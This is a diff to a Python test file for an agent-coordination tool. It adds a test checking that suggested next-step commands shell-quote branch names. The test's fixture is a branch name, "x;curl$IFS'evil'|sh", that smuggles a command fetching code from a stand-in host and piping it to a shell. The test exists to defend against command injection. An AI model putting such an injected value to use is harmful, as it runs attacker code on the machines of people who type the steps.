@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 
 from hypothesis import given
@@ -16,7 +17,8 @@ from gatekeeper.core.policy.precedence import Precedence
 from gatekeeper.core.policy.standing import Standing
 from gatekeeper.core.policy.trusted import Quarantine, Trusted
 from gatekeeper.core.roster import AgentSpec, PhaseName, PhaseSpec, Principal, Roster
-from tests.core.fleets import DECLARED, NAMES, Fleet, fleets, found, mirrored, problems, ref, rosters
+from tests.core.fleets import DECLARED, NAMES, Fleet, fleets, found, mirrored, oid, problems, ref, rosters
+from tests.core.ledger_events import START
 
 ANN, BOB, CLEO, DAN, EVE, FINN = NAMES
 LEAD = Principal("lead@example.org")
@@ -172,6 +174,26 @@ def test_a_critical_halts_the_phase_of_those_concerned_and_no_other() -> None:
     (case,) = (record for _, record in fleet.state.each(CaseRecord))
     assert (case.matter.kind, case.matter.owner, case.matter.phases) == ("incident", "coordinator", ("first",))
     assert "gatekeeper resume" in (verdict.of(CLEO).next_step or "")
+
+
+def test_a_branch_whose_name_is_a_command_gives_none_to_those_who_follow_their_next_step() -> None:
+    # Git allows all of this in the name of a branch, and next steps are there to be typed.
+    evil = AgentName("x;curl$IFS'evil'|sh")
+    met = found("f1", "minor", [["ann"], [evil]])
+    fleet = Fleet(NoRecords(), two_phases())
+    fleet.heads[evil] = oid(9)
+    fleet.look(met)
+    steps = [reason.next_step for reason in decided(fleet, met).of(evil).reasons]
+    placed = Quarantine(EventId("q"), LEAD, (met.id,), "it is hostile")
+    fleet.trusted = Trusted(quarantined={evil: placed})
+    steps += [reason.next_step for reason in decided(fleet, met).of(evil).reasons]
+    due = IntegrationRecord(evil, (ANN,), (met.id,), oid(1), START, published=oid(2))
+    fleet.state.put({(IntegrationRecord, evil): due})
+    fleet.look()
+    steps.append(decided(fleet).of(evil).next_step or "")
+    for step, word in zip(steps, (evil, evil, f"refs/gatekeeper/integrated/{evil}"), strict=True):
+        assert shlex.quote(word) in step
+        assert evil not in step
 
 
 def test_a_critical_with_a_stray_stops_those_two_alone() -> None:
